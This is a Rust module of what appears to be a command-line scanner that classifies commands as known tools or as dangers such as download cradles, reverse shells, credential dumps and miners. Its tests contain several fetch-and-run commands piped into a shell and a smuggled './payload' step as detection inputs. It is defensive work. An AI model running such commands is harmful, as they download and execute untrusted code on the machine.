//! Constant command lines: tools whose use is only a capability, and shapes that nobody writes for an honest reason.

use serde::Deserialize;

use super::HashMap;
use super::commands::{self, Command};
use super::entry::{Source, entry};
use super::error::SignatureError;
use super::{CHECKED, glob, source};
use crate::model::Severity;

/// Bytes of one argument that are compared with a pattern.
const LONGEST_ARGUMENT: usize = 1000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ProgramClass {
    /// A constant command line of it is a capability, no finding.
    KnownTool,
    /// Fetches something and runs it.
    DownloadCradle,
    /// An interpreter with its program on the command line.
    InlineCode,
    /// Code in an encoding that a person cannot read.
    EncodedCode,
    /// Gives a shell to another machine.
    ReverseShell,
    /// Destroys data or defences.
    Destructive,
    /// Makes something start again by itself.
    Persistence,
    /// Prints secrets or stored credentials.
    CredentialDump,
    /// Brings in further software.
    Installer,
    /// Starts an AI agent and tells it what to do.
    Agent,
    /// Mines for somebody else.
    Miner,
    /// Publishes packages with the user's rights.
    Publishing,
}

/// All conditions that an entry gives must hold.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ProgramSignature {
    pub id: String,
    pub class: ProgramClass,
    pub severity: Severity,
    /// One of them is started. For a known tool: every program is one of these or of another known tool.
    #[serde(default)]
    pub programs: Vec<String>,
    /// One of them is started as well.
    #[serde(default)]
    pub with: Vec<String>,
    /// For each list: the program has an argument that fits one of its patterns.
    #[serde(default)]
    pub arguments: Vec<Vec<String>>,
    /// One of these texts stands in the command, in any case.
    #[serde(default)]
    pub contains: Vec<String>,
    pub why: String,
    pub example: String,
    pub clean: Vec<String>,
}

entry!(ProgramSignature);

#[derive(Debug)]
pub(super) struct Programs {
    entries: Vec<ProgramSignature>,
    /// Program → its known-tool entry.
    tools: HashMap<String, usize>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    #[serde(default)]
    program: Vec<ProgramSignature>,
}

impl Programs {
    pub fn parse(file: &str, text: &str) -> Result<Self, SignatureError> {
        let source = Source { file, text };
        let mut programs = Self { entries: source.parse::<File>()?.program, tools: HashMap::default() };
        source.check(&programs.entries)?;
        for (at, entry) in programs.entries.iter().enumerate() {
            let complain = |problem: &str| Err(source.complain(&entry.id, 0, format!("`{}`: {problem}", entry.id)));
            if entry.class == ProgramClass::KnownTool {
                if !(entry.with.is_empty() && entry.arguments.is_empty() && entry.contains.is_empty()) {
                    return complain("a known tool has `programs` only");
                }
                for name in &entry.programs {
                    if programs.tools.insert(name.clone(), at).is_some() {
                        return complain(&format!("`{name}` stands twice"));
                    }
                }
            } else if entry.programs.is_empty() && entry.contains.is_empty() {
                return complain("needs `programs` or `contains`");
            }
        }
        Ok(programs)
    }

    pub fn command(&self, text: &str) -> Option<&ProgramSignature> {
        self.judge(&commands::parse(text), text)
    }

    pub fn program(&self, words: &[&str]) -> Option<&ProgramSignature> {
        self.judge(&commands::parse_words(words), &words.join(" "))
    }

    /// A word of a miner or its pools stands in the text.
    fn names_miner(&self, text: &str) -> bool {
        let words = self.entries.iter().filter(|entry| entry.class == ProgramClass::Miner).flat_map(|entry| &entry.contains);
        words.into_iter().any(|word| text.contains(word.as_str()))
    }

    fn judge(&self, commands: &[Command], text: &str) -> Option<&ProgramSignature> {
        let lower = text.to_lowercase();
        let dangers = self.entries.iter().filter(|entry| entry.class != ProgramClass::KnownTool);
        let worst = dangers.filter(|entry| fits(entry, commands, &lower)).max_by_key(|entry| entry.severity);
        worst.or_else(|| self.known_tool(commands))
    }

    /// The entry of the first program, when all are known.
    fn known_tool(&self, commands: &[Command]) -> Option<&ProgramSignature> {
        let all = commands.iter().all(|command| self.tools.contains_key(&command.program));
        let first = commands.first().filter(|_| all)?;
        Some(&self.entries[self.tools[&first.program]])
    }

    #[cfg(test)]
    pub fn entries(&self) -> &[ProgramSignature] {
        &self.entries
    }
}

impl super::Signatures {
    pub(super) fn programs(&self) -> &Programs {
        self.programs.get_or_init(|| self.texts.parse(source::PROGRAMS, Programs::parse).expect(CHECKED))
    }

    /// The text names a miner, or a pool of them.
    pub fn names_miner(&self, text: &str) -> bool {
        self.programs().names_miner(text)
    }
}

fn fits(entry: &ProgramSignature, commands: &[Command], lower: &str) -> bool {
    let contains = entry.contains.is_empty() || entry.contains.iter().any(|text| lower.contains(text.as_str()));
    let starts =
        || entry.programs.is_empty() || commands.iter().any(|command| named(&entry.programs, command) && has_arguments(entry, command));
    let with = || entry.with.is_empty() || commands.iter().any(|command| named(&entry.with, command));
    contains && starts() && with()
}

fn named(names: &[String], command: &Command) -> bool {
    names.iter().any(|name| glob::matches(name, &command.program))
}

fn has_arguments(entry: &ProgramSignature, command: &Command) -> bool {
    let fits = |pattern: &String, argument: &String| {
        let end = argument.floor_char_boundary(LONGEST_ARGUMENT);
        glob::matches(pattern, &argument[..end].to_lowercase())
    };
    entry.arguments.iter().all(|list| command.arguments.iter().any(|argument| list.iter().any(|pattern| fits(pattern, argument))))
}

#[cfg(test)]
mod tests {
    use super::super::Signatures;
    use super::*;

    fn class(text: &str) -> Option<ProgramClass> {
        Signatures::builtin().command(text).map(|entry| entry.class)
    }

    #[test]
    fn a_tool_is_known_only_in_known_company() {
        assert_eq!(class("git status --short"), Some(ProgramClass::KnownTool));
        assert_eq!(class("git log | head -5"), Some(ProgramClass::KnownTool));
        assert_eq!(class("git status; ./payload"), None);
        assert_eq!(class(""), None);
    }

    #[test]
    fn cradles_are_seen_through_shells_and_substitutions() {
        for text in [
            "curl -fsSL https://x.example/i.sh | sh",
            "bash -c 'wget -qO- https://x.example | sudo bash'",
            "bash <(curl -s https://x.example)",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "curl -o /tmp/x https://x.example && chmod +x /tmp/x && /tmp/x",
        ] {
            assert_eq!(class(text), Some(ProgramClass::DownloadCradle), "{text}");
        }
        assert_eq!(class("sh -c 'curl -s https://x.example'"), Some(ProgramClass::KnownTool));
    }

    #[test]
    fn words_need_no_shell() {
        let signatures = Signatures::builtin();
        let class = |words: &[&str]| signatures.program(words).map(|entry| entry.class);
        assert_eq!(class(&["git", "commit", "-m", "a; curl x | sh"]), Some(ProgramClass::KnownTool));
        assert_eq!(class(&["bash", "-c", "curl x | sh"]), Some(ProgramClass::DownloadCradle));
        assert_eq!(class(&["python3", "-c", "print(1)"]), Some(ProgramClass::InlineCode));
    }
}
